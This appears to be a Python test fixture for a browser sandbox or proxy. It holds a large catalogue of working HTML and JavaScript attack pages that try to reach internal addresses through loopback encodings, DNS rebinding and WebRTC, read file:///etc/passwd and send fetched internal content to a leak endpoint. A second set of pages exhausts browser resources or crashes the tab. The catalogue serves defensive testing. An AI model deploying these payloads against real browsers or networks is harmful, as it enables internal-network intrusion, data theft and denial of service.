"""Pages that try to make a browser reach an address that only this machine can reach.

Each is HTML, with ``@I`` for the internal origin, ``@H`` for its host and port, ``@S``
for the site itself, ``@P`` for the port, and ``@N`` for the name of the attack, which
says whose request the internal server gets. A first line ``HEADER name: value`` adds a
header, ``REDIRECT url`` makes it a redirect, ``OPEN url`` opens another address.
"""

from __future__ import annotations


def script(code: str) -> str:
    return f"<!doctype html><title>t</title><p>visible text<script>{code}</script>"


def _while_open(code: str) -> str:
    """Return a page that is still loading while it does harm."""
    return script(
        f"(async()=>{{try{{{code}}}catch(e){{}};await fetch('/slow/3000')}})()"
    )


_LEAK = "const leak=t=>fetch('/leak/@N',{method:'POST',body:String(t).slice(0,300)});"
_IN_WORKER = "fetch('@I/hit/@N').then(r=>r.text()).then(t=>fetch('@S/leak/@N',{method:'POST',body:t}))"
_PEER = (
    "(async()=>{let p=new RTCPeerConnection(),q=new RTCPeerConnection();p.createDataChannel('x');"
    "await p.setLocalDescription(await p.createOffer());await q.setRemoteDescription(p.localDescription);"
    "await q.setLocalDescription(await q.createAnswer());await p.setRemoteDescription(q.localDescription);"
    "for(const proto of ['udp','tcp'])await p.addIceCandidate({candidate:`candidate:1 1 ${proto} 2122260223 "
    "127.0.0.3 @P typ host`+(proto=='tcp'?' tcptype passive':''),sdpMid:'0'})})()"
)


def _ice(server: str) -> str:
    return script(
        f"let p=new RTCPeerConnection({{iceServers:[{server}]}});p.createDataChannel('x');"
        "p.createOffer().then(o=>p.setLocalDescription(o))"
    )


def _blob_worker(code: str) -> str:
    return script(f"new Worker(URL.createObjectURL(new Blob([`{code}`])))")


def _each_host(hosts: str) -> str:
    return script(
        f"for(const h of [{hosts}])fetch('http://'+h+':@P/hit/@N',{{mode:'no-cors'}}).catch(()=>0)"
    )


def _form(how: str) -> str:
    return script(
        f"document.body.innerHTML='<form id=f action=@I/hit/@N {how}><input name=a value=b></form>';f.submit()"
    )


def _link(attributes: str) -> str:
    return script(
        f"let a=document.createElement('a');Object.assign(a,{attributes});document.body.append(a);a.click()"
    )


def _rules(kind: str, url: str) -> str:
    return (
        f'<script type=speculationrules>{{"{kind}":[{{"source":"list","urls":["{url}"],"eagerness":"immediate"}}]}}'
        "</script><p>visible text"
    )


ATTACKS: dict[str, str] = {
    # what a page loads
    "image": "<p>visible text<img src='@I/hit/@N'>",
    "image: srcset, picture": "<picture><source srcset='@I/hit/@N 1x'><img src=x srcset='@I/hit/@N 2x'></picture>",
    "style sheet, font, import": "<link rel=stylesheet href='@I/hit/@N'><style>@import '@I/hit/@N';@font-face{"
    "font-family:x;src:url(@I/hit/@N)}p{font-family:x;background:url(@I/hit/@N)}</style><p>visible text",
    "script": "<p>visible text<script src='@I/hit/@N'></script><script type=module src='@I/hit/@N'></script>",
    "import()": script("import('@I/hit/@N').catch(()=>0)"),
    "video, audio, track, poster": "<video src='@I/hit/@N' poster='@I/hit/@N' autoplay><track default src='@I/hit/@N'>"
    "</video><audio src='@I/hit/@N' autoplay></audio>",
    "iframe": "<p>visible text<iframe src='@I/hit/@N'></iframe>",
    "frameset": "<frameset><frame src='@I/hit/@N'></frameset>",
    "object, embed": "<p>visible text<object data='@I/hit/@N'></object><embed src='@I/hit/@N'>",
    "svg: use, image, feImage": "<svg><use href='@I/hit/@N#a'/><image href='@I/hit/@N'/><filter><feImage href="
    "'@I/hit/@N'/></filter></svg><p>visible text",
    "xslt, xml entity": "<p>visible text<iframe src='/xslt/@N'></iframe>",
    "manifest, icon": "<link rel=manifest href='@I/hit/@N'><link rel=icon href='@I/hit/@N'><p>visible text",
    # what its scripts ask for
    "fetch": script(_LEAK + "fetch('@I/hit/@N').then(r=>r.text()).then(leak)"),
    "fetch: no-cors": script("fetch('@I/hit/@N',{mode:'no-cors',credentials:'include'})"),
    "fetch: keepalive": script("fetch('@I/hit/@N',{mode:'no-cors',keepalive:true,method:'POST',body:'x'})"),
    "fetch: local network": script("fetch('@I/hit/@N',{targetAddressSpace:'loopback'}).catch(()=>fetch('@I/hit/@N',"
    "{targetAddressSpace:'local'}))"),
    "xhr": script(_LEAK + "let x=new XMLHttpRequest;x.open('GET','@I/hit/@N');x.onload=()=>leak(x.response);x.send()"),
    "event source": script("new EventSource('@I/hit/@N')"),
    "beacon": script("navigator.sendBeacon('@I/hit/@N','x')"),
    "beacon at unload": script("addEventListener('pagehide',()=>navigator.sendBeacon('@I/hit/@N','x'));"
    "setTimeout(()=>location='/ok',200)"),
    "ping": _link("{href:'#x',ping:'@I/hit/@N'}"),
    "web socket": script("new WebSocket('ws://@H/hit/@N')"),
    "web socket: secure": script("new WebSocket('wss://@H/hit/@N')"),
    "web socket in a frame": "<iframe srcdoc=\"<script>new WebSocket('ws://@H/hit/@N')</script>\"></iframe>",
    "web socket stream": script("window.WebSocketStream&&new WebSocketStream('ws://@H/hit/@N').opened.catch(()=>0)"),
    # workers
    "worker": _blob_worker(_IN_WORKER),
    "worker: module": script("new Worker('/js/fetch/@N',{type:'module'})"),
    "worker: importScripts": _blob_worker("importScripts('@I/hit/@N')"),
    "worker: web socket": _blob_worker("new WebSocket('ws://@H/hit/@N')"),
    "worker: event source": _blob_worker("new EventSource('@I/hit/@N')"),
    "worker in a worker": script("new Worker('/js/nested/@N')"),
    "shared worker": script("new SharedWorker('/js/fetch/@N')"),
    "shared worker: web socket": script("new SharedWorker('/js/socket/@N')"),
    "service worker": script("navigator.serviceWorker?.register('/js/fetch/@N',{scope:'/js/fetch/'}).catch(()=>0)"),
    "service worker: navigation preload": script("navigator.serviceWorker?.register('/js/preload/@N',{scope:'/js/'})"),
    "worklet": script("CSS.paintWorklet?.addModule('@I/hit/@N').catch(()=>0);new AudioContext().audioWorklet."
    "addModule('@I/hit/@N').catch(()=>0)"),
    # ahead of time
    "preconnect": "<link rel=preconnect href='@I'><link rel=dns-prefetch href='@I'><p>visible text",
    "prefetch": "<link rel=prefetch href='@I/hit/@N'><link rel=prerender href='@I/hit/@N'><p>visible text",
    "preload, modulepreload": "<link rel=preload as=image href='@I/hit/@N'><link rel=modulepreload href='@I/hit/@N'>",
    "link header": "HEADER Link: <@I/hit/@N>; rel=preload; as=script, <@I>; rel=preconnect\n<p>visible text",
    "speculation: prefetch": _rules("prefetch", "@I/hit/@N"),
    "speculation: prerender": _rules("prerender", "/redirect/@I/hit/@N"),
    "speculation rules header": 'HEADER Speculation-Rules: "/rules/@N"\n<p>visible text',
    # reports
    "report: csp": "HEADER Content-Security-Policy: img-src 'none'; report-uri @I/hit/@N\n<img src='/x'><p>visible text",
    "report: reporting api": 'HEADER Reporting-Endpoints: default="@I/hit/@N"\nHEADER Content-Security-Policy: '
    "img-src 'none'; report-to default\n<img src='/x'><p>visible text",
    "report: network errors": 'HEADER NEL: {"report_to":"a","max_age":99,"success_fraction":1}\nHEADER Report-To: '
    '{"group":"a","max_age":99,"endpoints":[{"url":"@I/hit/@N"}]}\n<p>visible text',
    # going there
    "location": script("location='@I/hit/@N'"),
    "meta refresh": "<meta http-equiv=refresh content='0;url=@I/hit/@N'><p>visible text",
    "refresh header": "HEADER Refresh: 0;url=@I/hit/@N\n<p>visible text",
    "redirect": "REDIRECT @I/hit/@N",
    "redirect of an image": "<p>visible text<img src='/redirect/@I/hit/@N'>",
    "redirect of a frame": "<p>visible text<iframe src='/redirect/@I/hit/@N'></iframe>",
    "redirect of a fetch": script(_LEAK + "fetch('/redirect/@I/hit/@N').then(r=>r.text()).then(leak)"),
    "redirect in a worker": _blob_worker(_IN_WORKER.replace("@I", "@S/redirect/@I")),
    "redirect of a script": "<p>visible text<script src='/redirect/@I/hit/@N'></script>",
    "form: post": _form("method=post"),
    "form: get": _form("method=get"),
    "form: new window": _form("method=post target=_blank"),
    "popup": script("window.open('@I/hit/@N')"),
    "popup: no opener": script("window.open('@I/hit/@N','_blank','noopener')"),
    "popup that goes on": script("let w=window.open('/ok');setTimeout(()=>w.location='@I/hit/@N',200)"),
    "popup: blank": script("let w=window.open('');w&&w.fetch('@I/hit/@N',{mode:'no-cors'})"),
    "download": _link("{href:'@I/hit/@N',download:'x'}"),
    "history": script("history.pushState(0,0,'/ok');navigation.navigate('@I/hit/@N')"),
    "navigation in a frame": "<iframe srcdoc=\"<script>top.location='@I/hit/@N'</script>\"></iframe>",
    "javascript: frame": "<iframe src=\"javascript:'<img src=@I/hit/@N>'\"></iframe>",
    "data: frame": "<iframe src=\"data:text/html,<img src='@I/hit/@N'><script>fetch('@I/hit/@N')</script>\"></iframe>",
    "blob: frame": script("let f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob([`<img src="
    "'@I/hit/@N'>`],{type:'text/html'}));document.body.append(f)"),
    "about:blank frame": script("let f=document.createElement('iframe');document.body.append(f);"
    "f.contentWindow.fetch('@I/hit/@N')"),
    "fenced frame, portal": script("for(const n of ['fencedframe','portal']){let f=document.createElement(n);"
    "try{f.config=new FencedFrameConfig('@I/hit/@N')}catch(e){}f.src='@I/hit/@N';document.body.append(f)}"),
    # other schemes
    "file: location": script("location='file:///etc/passwd'"),
    "file: frame, fetch": script(_LEAK + "document.body.innerHTML+='<iframe src=file:///etc/passwd>';"
    "fetch('file:///etc/passwd').then(r=>r.text()).then(leak)"),
    "file: redirect": "REDIRECT file:///etc/passwd",
    "chrome: location": script("location='chrome://version'"),
    "chrome: popup": script("window.open('chrome://version');window.open('devtools://devtools/bundled/inspector.html')"),
    "view-source:": script("location='view-source:@I/hit/@N'"),
    "ftp:": "<p>visible text<img src='ftp://@H/hit/@N'><iframe src='ftp://@H/'></iframe>",
    "filesystem:, intent:": script("for(const u of ['filesystem:@I/hit/@N','intent://@H/hit/@N#Intent;scheme=http;end'])"
    "try{window.open(u)}catch(e){}"),
    # around the proxy
    "webrtc: stun": _ice("{urls:'stun:127.0.0.3:@P'}"),
    "webrtc: turn over tcp": _ice("{urls:'turn:127.0.0.3:@P?transport=tcp',username:'a',credential:'b'}"),
    "webrtc: turn over tls": _ice("{urls:'turns:127.0.0.3:@P?transport=tcp',username:'a',credential:'b'}"),
    "webrtc: peer": script(_PEER),
    "webtransport": script("new WebTransport('https://@H/hit/@N').ready.catch(()=>0)"),
    "direct sockets": script("try{new TCPSocket('127.0.0.3',@P)}catch(e){};try{new UDPSocket({remoteAddress:"
    "'127.0.0.3',remotePort:@P})}catch(e){}"),
    "alt-svc": 'HEADER Alt-Svc: h3="127.0.0.3:@P", h2="127.0.0.3:@P"\n' + script("fetch('/ok');fetch('/ok?2')"),
    "proxy auto-configuration": script("for(const h of ['wpad','wpad.lan'])fetch('http://'+h+':@P/hit/@N',"
    "{mode:'no-cors'}).catch(()=>0)"),
    # names and numbers
    "rebinding name": "OPEN http://rebind-a.example:@P/hit/@N",
    "rebinding fetch": script("for(let i=0;i<8;i++)setTimeout(()=>fetch('http://rebind-'+'bcdebcde'[i]+'.example:@P/hit/"
    "@N?'+i,{mode:'no-cors',cache:'no-store'}).catch(()=>0),i*60)"),
    "name of public and internal": script("fetch('http://mixed.example:@P/hit/@N',{mode:'no-cors'}).catch(()=>0)"),
    "name of internal": script("fetch('http://inside.example:@P/hit/@N',{mode:'no-cors'}).catch(()=>0);"
    "new WebSocket('ws://inside.example:@P/hit/@N')"),
    "numeric hosts": _each_host(
        "'2130706435','0x7f000003','0177.0.0.3','127.3','127.0.3','127.0.0.3.','127.0.0.３','127。0。0。3',"
        "'%31%32%37.0.0.3','0','0.0.0.0'"
    ),
    "ipv6 and mapped hosts": _each_host(
        "'[::1]','[::ffff:127.0.0.3]','[::ffff:7f00:3]','[::]','[0:0:0:0:0:ffff:127.0.0.3]','[64:ff9b::127.0.0.3]'"
    ),
    "localhost names": _each_host("'localhost','x.localhost','localhost.','LOCALHOST','ip6-localhost'"),
    "credentials in the URL": script("fetch('http://a.example@@H/hit/@N',{mode:'no-cors'}).catch(()=>0);"
    "document.body.innerHTML+='<img src=http://a:b@@H/hit/@N>'"),
    "protocol upgrade": script("fetch('/upgrade').catch(()=>0)"),
    # what a site says to the proxy's client
    "origin that plays the proxy": "<p>visible text<img src='/407'><iframe src='/407'></iframe>",
    "the proxy itself": script("for(const p of ['http://','ws://'])try{p=='ws://'?new WebSocket(p+'@G/hit/@N'):"
    "fetch(p+'@G/hit/@N',{mode:'no-cors'}).catch(()=>0)}catch(e){}"),
    # what few know
    "fedcm": script("navigator.credentials?.get({identity:{providers:[{configURL:'@I/hit/@N',clientId:'1'}]}})"
    ".catch(()=>0)"),
    "payment": script("try{new PaymentRequest([{supportedMethods:'https://@H/hit/@N'}],{total:{label:'x',amount:"
    "{currency:'EUR',value:'1'}}}).canMakePayment().catch(()=>0)}catch(e){}"),
    "ad auction, shared storage": script("try{navigator.joinAdInterestGroup?.({owner:location.origin,name:'x',"
    "biddingLogicURL:location.origin+'/x',updateURL:'@I/hit/@N',lifetimeMs:9e4},9e4).catch(()=>0)}catch(e){};"
    "try{window.sharedStorage?.worklet.addModule('@I/hit/@N').catch(()=>0)}catch(e){}"),
    "background fetch": script("navigator.serviceWorker?.register('/js/empty/@N',{scope:'/js/empty/'}).then(r=>"
    "r.backgroundFetch?.fetch('x',['@I/hit/@N'])).catch(()=>0)"),
    "attribution": "<p>visible text<img attributionsrc='@I/hit/@N' src='/ok'>" + script(
        "try{fetch('/ok',{attributionReporting:{eventSourceEligible:true,triggerEligible:false}})}catch(e){}"
    ),
    "signed exchange, bundle": '<script type=webbundle>{"source":"@I/hit/@N","resources":["@S/x"]}</script><p>visible text',
}  # fmt: skip

WORKERS = {
    "fetch": _IN_WORKER,
    "nested": "new Worker('/js/fetch/@N')",
    "socket": "new WebSocket('ws://@H/hit/@N')",
    "preload": "self.onactivate=e=>e.waitUntil(registration.navigationPreload.enable().then(()=>"
    + _IN_WORKER
    + "))",
    "empty": "",
}

HARM: dict[str, str] = {
    "an endless loop": script("setTimeout(()=>{for(;;);},50)"),
    "an endless loop at once": "<p>visible text</p><script>for(;;);</script>",
    "memory: arrays": script("let a=[];setInterval(()=>{for(let i=0;i<20;i++)a.push(new Array(1e6).fill(i+.5))},10)"),
    "memory: buffers": script("fetch('/slow/3000');let a=[];setInterval(()=>{let b=new Uint8Array(5e7);b.fill(1);"
    "a.push(b)},10)"),
    "memory: canvas": script("let a=[];setInterval(()=>{let c=document.createElement('canvas');c.width=c.height=8000;"
    "let x=c.getContext('2d');x.fillRect(0,0,8000,8000);a.push(x.getImageData(0,0,8000,8000))},10)"),
    "memory: workers": script("let s=URL.createObjectURL(new Blob(['let a=[];setInterval(()=>{let b=new Uint8Array(5e7);"
    "b.fill(1);a.push(b)},10)']));for(let i=0;i<4;i++)new Worker(s)"),
    "memory: WebAssembly": script("let a=[];setInterval(()=>{let m=new WebAssembly.Memory({initial:4000});"
    "new Uint8Array(m.buffer).fill(1);a.push(m)},10)"),
    "an endless document tree": script("setInterval(()=>{let h='';for(let i=0;i<20000;i++)h+='<div><p>text '+i+'</p>"
    "</div>';document.body.insertAdjacentHTML('beforeend',h)},10)"),
    "a deep document tree": script("let d=document.body;for(let i=0;i<50000;i++){let e=document.createElement('div');"
    "d.append(e);d=e};d.textContent='deep'"),
    "one huge text": script("document.body.append('x'.repeat(300e6))"),
    "60 busy workers": script("let s=URL.createObjectURL(new Blob(['for(;;);']));for(let i=0;i<60;i++)new Worker(s)"),
    "endless popups": script("setInterval(()=>window.open('/ok'),20)"),
    "endless frames": script("setInterval(()=>{for(let i=0;i<5;i++){let f=document.createElement('iframe');"
    "f.src='/ok?'+Math.random();document.body.append(f)}},10)"),
    "endless requests": script("setInterval(()=>{for(let i=0;i<50;i++)fetch('/ok?'+Math.random(),{cache:'no-store'})"
    ".catch(()=>0)},10)"),
    "endless navigation": script("setTimeout(()=>location='/page/@N?'+Math.random(),20)"),
    "endless history": script("setInterval(()=>{for(let i=0;i<200;i++)history.pushState(0,0,'?'+Math.random())},10)"),
    "endless dialogs": script("for(;;)alert('x')"),
    "prompt, confirm, print": script("document.body.append(prompt('x')+confirm('y'));print()"),
    "a question at leaving": script("onbeforeunload=e=>{e.preventDefault();return 'stay'};document.body.append('asked')"),
    "endless HTML": "ENDLESS text/html",
    "endless HTML, compressed": "BOMB text/html",
    "an endless script": "<p>visible text</p><script src='/endless/text/javascript'></script>",
    "dripping HTML": "DRIP",
    "an endless download": "ENDLESS application/octet-stream",
    "endless downloads": script("setInterval(()=>{let a=document.createElement('a');a.href='/endless/x/download?'+"
    "Math.random();a.download='x';document.body.append(a);a.click()},100)"),
    "a download of 200 MB": _link("{href:URL.createObjectURL(new Blob([new Uint8Array(2e8)])),download:'x'}"),
    "full storage": script("(async()=>{let r=await navigator.storage.getDirectory();let h=await r.getFileHandle('x',"
    "{create:true});let w=await h.createWritable();let b=new Uint8Array(2e7);for(let i=0;i<100;i++)await w.write(b)})()"),
    "endless fragments": script("setInterval(()=>{for(let i=0;i<60000;i++)location.hash='part'+i},2)"),
    "large states of history": _while_open("for(let i=0;i<40;i++)history.pushState('s'.repeat(9e6)+i,'')"),
    "one huge URL": script("fetch('data:text/plain,'+'u'.repeat(9e7)).catch(()=>0)"),
    "one huge URL of a frame": script("let f=document.createElement('iframe');document.body.append(f);"
    "f.src='data:text/html,'+'u'.repeat(9e7)"),
    "one huge event": script("new EventSource('/events/x')"),
    "one huge question": script("prompt('q'.repeat(6e7),'a'.repeat(6e7))"),
    "full memory: blobs": _while_open("window.a=[];for(let i=0;i<1500;i++){a.push(new Blob([new Uint8Array(1e6)"
    ".fill(i)]));if(i%25==0)await new Promise(r=>setTimeout(r,1))}"),
    "full memory: caches": _while_open("let c=await caches.open('c');for(let i=0;i<100;i++)"
    "await c.put('/part/'+i,new Response(new Uint8Array(15e6)))"),
    "full memory: locks": _while_open("for(let i=0;i<20000;i++)navigator.locks.request('n'.repeat(5e4)+i,"
    "()=>new Promise(()=>0))"),
    "full memory: channels": _while_open("window.a=[];for(let i=0;i<1500;i++)a.push(new BroadcastChannel("
    "'n'.repeat(4e5)+i))"),
    "a crash": script("location='chrome://crash'"),
    "functions replaced": script("Object.defineProperty(Element.prototype,'outerHTML',{get(){return 'LIES'}});"
    "XMLSerializer.prototype.serializeToString=()=>'LIES';String.prototype.slice=()=>'LIES';"
    "document.querySelector=()=>'LIES';document.body.append(' and truth')"),
}  # fmt: skip
